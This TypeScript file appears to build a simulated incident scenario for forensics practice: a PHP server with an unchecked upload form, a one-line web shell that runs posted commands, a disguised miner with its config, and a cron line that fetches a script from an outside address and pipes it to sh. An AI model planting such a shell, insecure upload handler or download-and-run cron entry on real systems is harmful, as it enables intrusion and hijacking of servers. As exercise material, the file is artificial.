/** A PHP server with an upload form that takes scripts: a web shell, a cron job, a miner under a system's name. */
import { booted, clockFiles, type Incident, processFiles } from './incident.ts';
import { dated, end, minerProgram, server } from './server.ts';
import { wallet } from './wallet.ts';

const day = 86_400_000;
const uploaded = Date.UTC(2026, 10, 18, 3, 10, 0);
const fetched = uploaded + 95_000;
const shell = '<?php if (isset($_POST["c"])) { echo shell_exec($_POST["c"]); } ?>\n';
const config = JSON.stringify({
  autosave: true,
  'donate-level': 1,
  pools: [{ url: 'pool.example.net:3333', user: wallet, pass: 'web', keepalive: true }],
});
const cronLine = '*/10 * * * * curl -fsS http://203.0.113.40/php.sh | sh';

function accessLog(): string {
  const line = (at: number, client: string, request: string, status: number): string => {
    const [, d = '', m = '', y = '', t = ''] =
      /^\w+, (\d+) (\w+) (\d+) ([\d:]+)/.exec(new Date(at).toUTCString()) ?? [];
    return `${client} - - [${d}/${m}/${y}:${t} +0000] "${request} HTTP/1.1" ${status} 512 "-" "Mozilla/5.0"\n`;
  };
  let text = '';
  for (let at = end - 8 * day; at < end; at += 600_000) {
    text += line(at, '192.0.2.77', 'GET /index.php?page=news', 200);
    if (at <= uploaded && at + 600_000 > uploaded) {
      text += line(uploaded, '203.0.113.40', 'POST /upload.php', 200);
      text += line(uploaded + 60_000, '203.0.113.40', 'POST /uploads/avatar_7.php', 200);
      text += line(fetched, '203.0.113.40', 'POST /uploads/avatar_7.php', 200);
    }
  }
  return text;
}

export const webShell: Incident = {
  name: 'a web shell on a PHP server',
  files: server('web1', {
    ...clockFiles,
    '/etc/nginx/sites-enabled/site': dated(end - 60 * day, 'server {\n  listen 80;\n  root /var/www/html;\n}\n'),
    '/var/www/html/index.php': dated(
      end - 60 * day,
      '<?php include "header.php"; echo htmlspecialchars($_GET["page"]); ?>\n',
    ),
    '/var/www/html/upload.php': dated(
      end - 60 * day,
      '<?php move_uploaded_file($_FILES["f"]["tmp_name"], "uploads/" . $_FILES["f"]["name"]); ?>\n',
    ),
    '/var/www/html/wp-config.php': dated(end - 60 * day, "<?php define('DB_PASSWORD', 'not-a-real-one'); ?>\n"),
    '/var/www/html/uploads/avatar_3.png': dated(end - 9 * day, 'not really a picture'),
    '/var/www/html/uploads/avatar_7.php': dated(uploaded, shell, { uid: 33 }),
    '/var/log/nginx/access.log': dated(end, accessLog()),
    '/var/tmp/.php-fpm/php-fpm': dated(fetched, minerProgram, { mode: 0o755, uid: 33 }),
    '/var/tmp/.php-fpm/config.json': dated(fetched, config, { uid: 33 }),
    '/var/spool/cron/crontabs/www-data': dated(fetched + 5_000, `# of www-data\n${cronLine}\n`, {
      mode: 0o600,
      uid: 33,
    }),
    ...processFiles(4711, {
      name: 'php-fpm',
      program: '/var/tmp/.php-fpm/php-fpm',
      argv: ['./php-fpm', '-c', 'config.json'],
      uid: 33,
      parent: 1,
      started: (fetched + 8_000 - booted) / 1000,
      folder: '/var/tmp/.php-fpm',
    }),
  }),
  placed: [
    '/var/www/html/uploads/avatar_7.php',
    '/var/tmp/.php-fpm/php-fpm',
    '/var/tmp/.php-fpm/config.json',
    '/var/spool/cron/crontabs/www-data',
  ],
  secrets: [],
  entry: /web|upload|avatar_7/i,
  forgotten: '/var/spool/cron/crontabs/www-data',
};
